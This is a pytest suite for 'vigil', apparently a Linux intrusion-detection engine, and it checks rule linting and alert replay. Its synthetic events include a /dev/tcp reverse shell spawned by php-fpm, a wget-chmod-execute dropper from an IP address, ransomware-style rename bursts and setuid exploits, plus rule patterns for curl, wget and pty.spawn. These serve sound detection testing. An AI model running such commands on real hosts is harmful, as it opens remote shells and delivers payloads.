"""
vigil's default content (content/): every rule compiles against this build's registry and
passes its own match / no-match tests under `vigil content lint`, and replayed event streams
raise exactly the alerts they should -- an attack raises the intended rules, an ordinary
Debian host doing package installs, builds, logins and log rotation raises none.
"""
import collections
import json
import re
import subprocess

import pytest

from conftest import ROOT, VIGIL, get, need

CONTENT = ROOT / "content"
MIN_RULES = 40
TIMEOUT = 120
LEVELS = {"informational", "low", "medium", "high", "critical"}
TECHNIQUE_TAG = re.compile(r"^attack\.t\d{4}(\.\d{3})?$")


def need_vigil():
    if not VIGIL.is_file():
        pytest.fail(f"{VIGIL} is missing: run make first", pytrace=False)


def run_vigil(*args):
    need_vigil()
    return subprocess.run([str(VIGIL), *map(str, args)], capture_output=True, text=True,
                          timeout=TIMEOUT, cwd=ROOT, stdin=subprocess.DEVNULL)


def load_rules():
    """Every rule of content/ as parsed YAML, with the file it came from."""
    yaml = pytest.importorskip("yaml")
    rules = []
    for path in sorted(CONTENT.rglob("*.y*ml")):
        doc = yaml.safe_load(path.read_text()) or {}
        for rule in doc.get("rules") or []:
            rules.append((path.name, rule))
    return rules


# --- lint ---

def test_lint_compiles_and_passes_every_rule_test():
    res = run_vigil("content", "lint", "content/")
    out = res.stdout + res.stderr
    assert res.returncode == 0, f"vigil content lint content/ failed:\n{out[-4000:]}"
    m = re.search(r"(\d+) rules \((\d+) with tests\), (\d+) tests passed, (\d+) failed", out)
    assert m, f"no summary line in lint output:\n{out[-2000:]}"
    rules, with_tests, passed, failed = map(int, m.groups())
    assert rules >= MIN_RULES, f"only {rules} rules in content/"
    assert with_tests == rules, f"{rules - with_tests} rules have no tests"
    assert failed == 0 and passed >= 2 * rules, out


def test_lint_stats_lists_every_database(tmp_path):
    """--stats prints one line per pattern database of the load and a total per kind; equals
    literals are found by lookup, with nothing compiled; a field's regex set has a literal
    database of the atoms its regexes need ('/tmp/' here)."""
    (tmp_path / "r.yml").write_text(
        "rules:\n"
        "  - {id: eq, name: n, condition: {process.name: {in: [bash, sh]}}}\n"
        "  - {id: lit, name: n, condition: {process.command_line: {contains: [curl, wget]}}}\n"
        "  - {id: re, name: n, condition: {process.executable: {regex: '^/tmp/.+'}}}\n"
        "  - {id: lazy, name: n, condition: {all: [process.name: {contains: py},\n"
        "        process.command_line: {regex: 'pty\\.spawn'}]}}\n")
    res = run_vigil("content", "lint", tmp_path / "r.yml", "--stats")
    assert res.returncode == 0, res.stderr
    rows = [line.split() for line in res.stdout.splitlines()
            if line.split() and line.split()[0] in ("literal", "regex", "regex-atoms",
                                                    "regex-on-demand", "lookup")]
    kinds = collections.Counter((r[0], r[1]) for r in rows)
    assert kinds == {("lookup", "process.name"): 1, ("literal", "process.command_line"): 1,
                     ("regex", "process.executable"): 1, ("literal", "process.name"): 1,
                     ("regex-atoms", "process.executable"): 1,
                     ("regex-on-demand", "process.command_line"): 1}, res.stdout
    patterns = {(r[0], r[1]): int(r[2]) for r in rows}
    assert patterns[("lookup", "process.name")] == 2
    assert patterns[("literal", "process.command_line")] == 2
    assert patterns[("regex-atoms", "process.executable")] == 1
    totals = dict(re.findall(r"^total (\S+): (\d+) databases", res.stdout, re.M))
    assert totals == {"literal": "2", "regex": "1", "regex-atoms": "1", "regex-on-demand": "1",
                      "lookup": "1"}
    assert run_vigil("content", "lint", tmp_path / "r.yml", "--bogus").returncode == 2


def test_rules_are_documented_and_tested():
    """Each rule names its ATT&CK technique, has an honest level, a description that states
    its residual false positives, and at least one match and one no-match test."""
    rules = load_rules()
    assert len(rules) >= MIN_RULES
    seen = set()
    problems = []
    for fname, r in rules:
        rid = r.get("id", "?")
        where = f"{fname}: {rid}"
        if rid in seen:
            problems.append(f"{where}: duplicate id")
        seen.add(rid)
        if r.get("level") not in LEVELS:
            problems.append(f"{where}: level {r.get('level')!r}")
        if not any(TECHNIQUE_TAG.match(t) for t in r.get("tags") or []):
            problems.append(f"{where}: no attack.tNNNN tag")
        desc = r.get("description") or ""
        if "false positive" not in desc.lower():
            problems.append(f"{where}: description does not state residual false positives")
        tests = r.get("tests") or {}
        if not tests.get("match") or not tests.get("nomatch"):
            problems.append(f"{where}: needs match and nomatch tests")
    assert not problems, "\n".join(problems)
    levels = dict((r["id"], r["level"]) for _, r in rules)
    assert levels.get("vigil-liveness") == "informational"


# --- replay ---

def nest(flat):
    """A flat {dotted name: value} event as the agent's nested NDJSON object."""
    out = {}
    for name, value in flat.items():
        if name == "@timestamp":
            out[name] = value
            continue
        cur = out
        parts = name.split(".")
        for p in parts[:-1]:
            cur = cur.setdefault(p, {})
        cur[parts[-1]] = value
    return out


def ts(seconds):
    """RFC 3339 timestamp @seconds (may be fractional) after a fixed start."""
    whole = int(seconds)
    nanos = int(round((seconds - whole) * 1e9))
    h, rest = divmod(whole, 3600)
    m, s = divmod(rest, 60)
    return f"2025-06-02T{10 + h:02d}:{m:02d}:{s:02d}.{nanos:09d}Z"


def replay(tmp_path, events):
    """Replays @events (flat dicts, in order) through content/; returns the alerts."""
    path = tmp_path / "events.ndjson"
    with open(path, "w") as f:
        for i, ev in enumerate(events):
            ev = {"@timestamp": ts(i), "event.kind": "event", **ev}
            f.write(json.dumps(nest(ev)) + "\n")
    res = run_vigil("content", "test", "--rules", "content", "--events", path)
    assert res.returncode == 0, f"vigil content test failed:\n{res.stderr[-3000:]}"
    alerts = []
    for line in res.stdout.splitlines():
        rec = json.loads(line)
        assert get(rec, "event.kind") == "alert", line[:300]
        alerts.append(rec)
    return alerts


def rule_counts(alerts):
    return dict(collections.Counter(get(a, "rule.id") for a in alerts))


# Processes and paths shared by the scenarios.
WWW = {"user.id": "33", "user.name": "www-data"}
PHP_FPM_ANCESTRY = ["/usr/sbin/php-fpm8.2", "/usr/sbin/php-fpm8.2", "/usr/lib/systemd/systemd"]
APT_ANCESTRY = ["/usr/bin/apt-get", "/usr/bin/sudo", "/usr/bin/bash", "/usr/sbin/sshd",
                "/usr/sbin/sshd", "/usr/lib/systemd/systemd"]


def exec_ev(exe, args, **more):
    ev = {"event.category": "process", "event.action": "exec", "process.executable": exe,
          "process.name": exe.rsplit("/", 1)[1], "process.args": args,
          "process.args_count": len(args), "process.command_line": " ".join(args)}
    ev.update(more)
    return ev


def file_ev(action, path, exe, **more):
    directory, name = path.rsplit("/", 1)
    ev = {"event.category": "file", "event.action": action, "file.path": path,
          "file.name": name, "file.directory": directory or "/", "process.executable": exe,
          "process.name": exe.rsplit("/", 1)[1]}
    ev.update(more)
    return ev


def connect_ev(entity, exe, ip, port, **more):
    ev = {"event.category": "network", "event.action": "connect", "network.direction": "egress",
          "network.transport": "tcp", "network.type": "ipv4", "process.entity_id": entity,
          "process.executable": exe, "process.name": exe.rsplit("/", 1)[1],
          "destination.ip": ip, "destination.port": port}
    ev.update(more)
    return ev


def test_liveness_marker_raises_only_the_liveness_rule(tmp_path):
    alerts = replay(tmp_path, [
        exec_ev("/usr/bin/true", ["/bin/true", "vigil-liveness-marker"],
                **{"process.parent.name": "vigil-agent", "user.id": "0"}),
        exec_ev("/usr/bin/grep", ["grep", "-r", "vigil-liveness", "/etc/vigil"], **{"user.id": "0"}),
    ])
    assert rule_counts(alerts) == {"vigil-liveness": 1}
    assert get(alerts[0], "rule.level") == "informational"


def test_ordinary_debian_host_raises_nothing(tmp_path):
    """Package installs, builds, logins, sudo, editing, log rotation and downloads: the
    near misses of many rules, none of which may alert."""
    pkg = {"process.ancestors": APT_ANCESTRY, "user.id": "0"}
    dpkg = "/usr/bin/dpkg"
    alice = {"user.id": "1000", "user.name": "alice"}
    events = [
        # apt-get install nginx sysstat: dpkg unpacks, renames into place, sets modes
        exec_ev(dpkg, ["/usr/bin/dpkg", "--status-fd", "37", "--unpack", "nginx.deb"], **pkg),
        file_ev("rename", "/usr/lib/systemd/system/nginx.service.dpkg-new", dpkg,
                **{"file.target_path": "/usr/lib/systemd/system/nginx.service"}, **pkg),
        file_ev("rename", "/etc/cron.d/sysstat.dpkg-new", dpkg,
                **{"file.target_path": "/etc/cron.d/sysstat"}, **pkg),
        file_ev("rename", "/etc/profile.d/bash_completion.sh.dpkg-new", dpkg,
                **{"file.target_path": "/etc/profile.d/bash_completion.sh"}, **pkg),
        file_ev("chmod", "/usr/bin/passwd", dpkg, **{"file.mode": "4755"}, **pkg),
        exec_ev("/usr/sbin/setcap", ["setcap", "cap_net_raw+p", "/usr/bin/ping"],
                **{"process.parent.command_line":
                   "/bin/sh /var/lib/dpkg/info/iputils-ping.postinst configure"}, **pkg),
        file_ev("rename", "/etc/passwd+", "/usr/bin/perl",
                **{"file.target_path": "/etc/passwd",
                   "process.command_line": "/usr/bin/perl /usr/sbin/adduser --system --group _chrony"},
                **pkg),
        # a build in the home directory and go test's scratch binaries
        exec_ev("/usr/bin/make", ["make", "-j2"], **{"process.working_directory": "/home/alice/src/app"}, **alice),
        exec_ev("/usr/bin/uname", ["uname", "-m"], **{"process.parent.command_line": "/bin/bash ./config.guess"}, **alice),
        exec_ev("/tmp/go-build4181/b001/app.test", ["/tmp/go-build4181/b001/app.test", "-test.v"],
                **{"process.ancestors": ["/usr/lib/go-1.21/bin/go", "/usr/bin/bash"]}, **alice),
        file_ev("delete", "/tmp/go-build4181/b001/app.test", "/usr/lib/go-1.21/bin/go", **alice),
        # an SSH login: sshd drops to the user, profile scripts run, sudo elevates
        {"event.category": "host", "event.action": "setuid", "user.changes.id": "1000",
         "user.id": "0", "process.executable": "/usr/sbin/sshd", "process.name": "sshd"},
        exec_ev("/usr/bin/bash", ["-bash"], **{"process.tty.name": "pts/0",
                                               "process.parent.name": "sshd"}, **alice),
        exec_ev("/usr/bin/id", ["id", "-u"], **alice),
        exec_ev("/usr/bin/sudo", ["sudo", "-i"], **{"user.effective.id": "0"}, **alice),
        {"event.category": "host", "event.action": "setuid", "user.changes.id": "0",
         "user.id": "1000", "process.executable": "/usr/bin/sudo", "process.name": "sudo"},
        # administration: visudo, reading logs, firewall listing, journal size
        file_ev("rename", "/etc/sudoers.tmp", "/usr/sbin/visudo",
                **{"file.target_path": "/etc/sudoers", "user.id": "0"}),
        exec_ev("/usr/sbin/xtables-nft-multi", ["iptables", "-L", "-n"], **{"user.id": "0"}),
        exec_ev("/usr/bin/journalctl", ["journalctl", "--disk-usage"], **{"user.id": "0"}),
        exec_ev("/usr/bin/systemctl", ["systemctl", "restart", "auditd"], **{"user.id": "0"}),
        exec_ev("/usr/bin/cat", ["cat", "/home/alice/.ssh/id_ed25519.pub"], **alice),
        exec_ev("/usr/bin/ls", ["ls", "-l", "/etc/shadow"], **{"user.id": "0"}),
        # log rotation, history rewrite, known_hosts, key generation
        file_ev("rename", "/var/log/auth.log", "/usr/sbin/logrotate",
                **{"file.target_path": "/var/log/auth.log.1", "user.id": "0"}),
        file_ev("rename", "/home/alice/.bash_history-01234.tmp", "/usr/bin/bash",
                **{"file.target_path": "/home/alice/.bash_history"}, **alice),
        file_ev("write", "/home/alice/.ssh/known_hosts", "/usr/bin/ssh", **alice),
        file_ev("create", "/home/alice/.ssh/id_ed25519", "/usr/bin/ssh-keygen", **alice),
        # a shell script probing the database port, downloads over HTTPS
        connect_ev("bash-probe", "/usr/bin/bash", "127.0.0.1", 5432, **{"user.id": "0"}),
    ]
    events += [connect_ev("apt-http", "/usr/lib/apt/methods/http", "151.101.2.132", 443,
                          **{"user.id": "42"}) for _ in range(60)]
    alerts = replay(tmp_path, events)
    assert rule_counts(alerts) == {}, "\n".join(
        f"{get(a, 'rule.id')}: {get(a, 'event.action')} {get(a, 'process.command_line') or get(a, 'file.path')}"
        for a in alerts)


def test_web_shell_reverse_shell(tmp_path):
    """php-fpm runs a shell that opens /dev/tcp to the internet, then the operator looks
    around: the reverse shell, its connection and the recon are each flagged."""
    shell = exec_ev("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"],
                    **{"process.entity_id": "ws-1", "process.parent.name": "php-fpm8.2",
                       "process.parent.executable": "/usr/sbin/php-fpm8.2",
                       "process.ancestors": PHP_FPM_ANCESTRY}, **WWW)
    conn = connect_ev("ws-1", "/usr/bin/bash", "203.0.113.7", 443, **WWW)
    recon = exec_ev("/usr/bin/id", ["id"], **{"process.entity_id": "ws-2",
                                              "process.parent.name": "bash",
                                              "process.ancestors": ["/usr/bin/bash"] + PHP_FPM_ANCESTRY},
                    **WWW)
    alerts = replay(tmp_path, [shell, conn, recon])
    assert rule_counts(alerts) == {
        "vigil-reverse-shell-dev-tcp": 1,
        "vigil-webserver-spawns-shell": 1,
        "vigil-webserver-shell-connects-out": 1,
        "vigil-shell-connects-out-public": 1,
        "vigil-webshell-recon-command": 1,
    }
    by_rule = {get(a, "rule.id"): a for a in alerts}
    seq = by_rule["vigil-webserver-shell-connects-out"]
    assert get(seq, "event.action") == "connect"
    assert get(seq, "rule.level") == "critical"
    assert "T1505.003" in get(seq, "threat.technique.id")


def test_dropper_downloads_runs_and_deletes_its_payload(tmp_path):
    sh = {"process.parent.entity_id": "sh-9", "user.id": "1001"}
    events = [
        exec_ev("/usr/bin/wget", ["wget", "-q", "http://203.0.113.7/kx", "-O", "/tmp/kx"],
                **{"process.entity_id": "d-1"}, **sh),
        exec_ev("/usr/bin/chmod", ["chmod", "+x", "/tmp/kx"], **{"process.entity_id": "d-2"}, **sh),
        exec_ev("/tmp/kx", ["/tmp/kx"], **{"process.entity_id": "d-3",
                                           "process.ancestors": ["/usr/bin/dash", "/usr/sbin/cron"]}, **sh),
        file_ev("delete", "/tmp/kx", "/tmp/kx", **{"process.entity_id": "d-3", "user.id": "1001"}),
    ]
    alerts = replay(tmp_path, events)
    assert rule_counts(alerts) == {
        "vigil-payload-download-from-ip": 1,
        "vigil-download-chmod-execute": 1,
        "vigil-exec-from-temp-dir": 1,
        "vigil-executed-binary-deleted": 1,
    }


def test_ransomware_rename_burst_alerts_once(tmp_path):
    """120 renames in 6 seconds by one process: one alert (the count re-arms after it);
    the same renames at one per second from another process: none."""
    fast = [file_ev("rename", f"/home/alice/Documents/doc-{i:03d}.odt", "/tmp/.e/enc",
                    **{"file.target_path": f"/home/alice/Documents/doc-{i:03d}.odt.k3y",
                       "process.entity_id": "enc-1", "user.id": "1000"})
            for i in range(120)]
    path = tmp_path / "burst.ndjson"
    with open(path, "w") as f:
        for i, ev in enumerate(fast):
            f.write(json.dumps(nest({"@timestamp": ts(i * 0.05), "event.kind": "event", **ev})) + "\n")
        for i in range(120):
            ev = file_ev("rename", f"/srv/media/in/clip-{i:03d}.mp4", "/usr/bin/python3.11",
                         **{"file.target_path": f"/srv/media/out/clip-{i:03d}.mp4",
                            "process.entity_id": "media-1", "user.id": "998"})
            f.write(json.dumps(nest({"@timestamp": ts(10 + i), "event.kind": "event", **ev})) + "\n")
    res = run_vigil("content", "test", "--rules", "content", "--events", path)
    assert res.returncode == 0, res.stderr[-2000:]
    alerts = [json.loads(line) for line in res.stdout.splitlines()]
    assert rule_counts(alerts) == {"vigil-ransomware-rename-burst": 1}
    assert get(alerts[0], "process.entity_id") == "enc-1"


def test_connect_scan_alerts_and_busy_https_client_does_not(tmp_path):
    path = tmp_path / "scan.ndjson"
    with open(path, "w") as f:
        for i in range(60):
            ev = connect_ev("scan-1", "/usr/bin/python3.11", "10.20.0.5", 1000 + i, **{"user.id": "33"})
            f.write(json.dumps(nest({"@timestamp": ts(i * 0.1), "event.kind": "event", **ev})) + "\n")
        for i in range(200):
            ev = connect_ev("curl-1", "/usr/bin/curl", "151.101.2.132", 443, **{"user.id": "1000"})
            f.write(json.dumps(nest({"@timestamp": ts(10 + i * 0.02), "event.kind": "event", **ev})) + "\n")
    res = run_vigil("content", "test", "--rules", "content", "--events", path)
    assert res.returncode == 0, res.stderr[-2000:]
    alerts = [json.loads(line) for line in res.stdout.splitlines()]
    assert rule_counts(alerts) == {"vigil-connect-port-scan": 1}
    assert get(alerts[0], "destination.port") == 1049  # the 50th attempt completes the count


def test_privilege_escalation_to_root(tmp_path):
    """An exploit's setuid(0) from a non-root user alerts; sudo doing the same does not."""
    events = [
        {"event.category": "host", "event.action": "setuid", "user.changes.id": "0",
         "user.id": "1000", "user.effective.id": "0", "process.executable": "/usr/bin/sudo",
         "process.name": "sudo"},
        {"event.category": "host", "event.action": "setuid", "user.changes.id": "0",
         "user.id": "33", "user.effective.id": "0", "process.executable": "/tmp/cve",
         "process.name": "cve"},
        exec_ev("/usr/bin/dash", ["/bin/sh", "-p"], **{"process.parent.name": "find",
                                                      "user.id": "1000", "user.effective.id": "0"}),
    ]
    alerts = replay(tmp_path, events)
    assert rule_counts(alerts) == {
        "vigil-setuid-root-by-unprivileged": 1,
        "vigil-shell-with-elevated-euid": 1,
    }


def test_agent_loads_a_signed_bundle_given_to_rules(tmp_path):
    """`vigil-agent --rules FILE.bundle` verifies the bundle against --root and runs its rules
    beside the built-in ones; an unverifiable or tampered bundle is refused in one line."""
    from conftest import AGENT
    for k in ("root", "signer", "other"):
        assert run_vigil("keygen", "-o", tmp_path / k).returncode == 0
    res = run_vigil("root", "create", "--root-key", tmp_path / "root.key", "--signer",
                    tmp_path / "signer.pub", "-o", tmp_path / "root.json")
    assert res.returncode == 0, res.stderr
    bundle = tmp_path / "content.bundle"
    res = run_vigil("content", "build", "content", "--version", "5", "--key",
                    tmp_path / "signer.key", "-o", bundle)
    assert res.returncode == 0, res.stderr
    path = tmp_path / "events.ndjson"
    path.write_text(json.dumps(nest({"@timestamp": ts(0), "event.kind": "event",
                                     **exec_ev("/usr/bin/true",
                                               ["vigil-liveness-marker", "nonce"],
                                               **{"user.id": "0"})})) + "\n")

    def agent(*args):
        return subprocess.run([str(AGENT), "--print", "--alerts-only", "--source",
                               f"replay:{path}", "--rules", *map(str, args)],
                              capture_output=True, text=True, timeout=TIMEOUT,
                              stdin=subprocess.DEVNULL)
    res = agent(bundle, "--root", tmp_path / "root.json")
    assert res.returncode == 0, res.stderr
    rules = [get(json.loads(x), "rule.id") for x in res.stdout.splitlines()
             if get(json.loads(x), "event.kind") == "alert"]
    # the content's own rule and the agent's built-in liveness rule, as after an activation
    assert sorted(rules) == ["vigil-builtin-liveness", "vigil-liveness"], res.stdout
    res = agent(bundle)
    assert res.returncode != 0
    assert "signed bundle: give --root" in res.stderr and res.stderr.count("\n") == 1
    # signed by a key the root does not name
    res = run_vigil("content", "build", "content", "--version", "6", "--key",
                    tmp_path / "other.key", "-o", tmp_path / "other.bundle")
    assert res.returncode == 0, res.stderr
    res = agent(tmp_path / "other.bundle", "--root", tmp_path / "root.json")
    assert res.returncode != 0 and res.stderr.count("\n") == 1, res.stderr
    assert "other.bundle" in res.stderr
    # one byte changed in the payload
    data = bytearray(bundle.read_bytes())
    data[-10] ^= 0x40
    (tmp_path / "bad.bundle").write_bytes(bytes(data))
    res = agent(tmp_path / "bad.bundle", "--root", tmp_path / "root.json")
    assert res.returncode != 0 and res.stderr.count("\n") == 1, res.stderr
